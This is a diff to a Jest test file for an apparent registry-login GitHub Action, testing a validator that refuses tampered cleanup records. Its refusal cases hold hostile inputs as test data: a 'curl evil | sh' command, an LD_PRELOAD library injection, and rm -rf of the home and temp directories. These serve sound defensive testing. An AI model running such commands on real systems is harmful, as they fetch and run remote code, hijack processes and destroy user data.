@@ -1,4 +1,7 @@
-import { checkRecords } from '../src/undo.js'
+import { jest } from '@jest/globals'
+
+jest.unstable_mockModule('@actions/core', () => ({}))
+const { checkRecords } = await import('../src/replay.js')
 
 const TEMP = '/runner/_temp'
 const DIR = `${TEMP}/registry-auth-Ab12Cd`
@@ -9,22 +12,18 @@ const docker = {
   written: 'a'.repeat(64), storedInFile: ['127.0.0.1:5000'], helpers: [{ host: '123456789012.dkr.ecr.us-east-1.amazonaws.com', helper: 'ecr-login', backup: `${DIR}/helper-0.json` }],
 }
 const yarnrc = { kind: 'file', description: 'restore', path: '/home/u/.yarnrc.yml', backup: null, entries: { format: 'yaml', keys: [['npmScopes', 'acme']] } }
-const logout = { kind: 'run', description: 'podman logout', command: 'podman', args: ['logout', '123456789012.dkr.ecr.us-east-1.amazonaws.com'], env: {} }
-const helm = { kind: 'run', description: 'helm logout', command: 'helm', args: ['registry', 'logout', 'public.ecr.aws'] }
 
 test('what the main step writes passes whole', () => {
-  const saved = [remove, docker, yarnrc, logout, helm]
+  const saved = [remove, docker, yarnrc]
   expect(checkRecords(saved, TEMP)).toEqual({ records: saved, refused: [] })
   expect(checkRecords([], TEMP)).toEqual({ records: [], refused: [] })
 })
 
 describe('anything else is refused, with its reason; the rest still passes', () => {
   test.each<[string, unknown, string]>([
-    ['a command of its own', { kind: 'run', description: 'x', command: 'sh', args: ['-c', 'curl evil | sh'] }, '"sh" ["-c","curl evil | sh"] is not a logout of a known registry client'],
-    ['a logout with more arguments', { ...logout, args: ['logout', '--all', 'x'] }, 'is not a logout of a known registry client'],
-    ['a logout of something that is no host', { ...logout, args: ['logout', '-h'] }, 'is not a logout of a known registry client'],
-    ['a logout with other environment', { ...logout, env: { LD_PRELOAD: '/tmp/x.so' } }, 'is not DOCKER_CONFIG alone'],
-    ['a relative DOCKER_CONFIG', { ...logout, env: { DOCKER_CONFIG: 'docker' } }, 'is not DOCKER_CONFIG alone'],
+    ['a command of its own', { kind: 'run', description: 'x', command: 'sh', args: ['-c', 'curl evil | sh'] }, '"run" is not a kind of undo record'],
+    ['docker with other environment', { ...docker, env: { LD_PRELOAD: '/tmp/x.so' } }, 'is not DOCKER_CONFIG alone'],
+    ['docker with a relative DOCKER_CONFIG', { ...docker, env: { DOCKER_CONFIG: 'docker' } }, 'is not DOCKER_CONFIG alone'],
     ['rm -rf of the home directory', { kind: 'remove', description: 'x', path: '/home/u' }, '"/home/u" is not a private directory of this action in /runner/_temp'],
     ['rm -rf of RUNNER_TEMP itself', { kind: 'remove', description: 'x', path: TEMP }, 'is not a private directory'],
     ['a private directory elsewhere', { kind: 'remove', description: 'x', path: '/tmp/registry-auth-Ab12Cd' }, 'is not a private directory'],
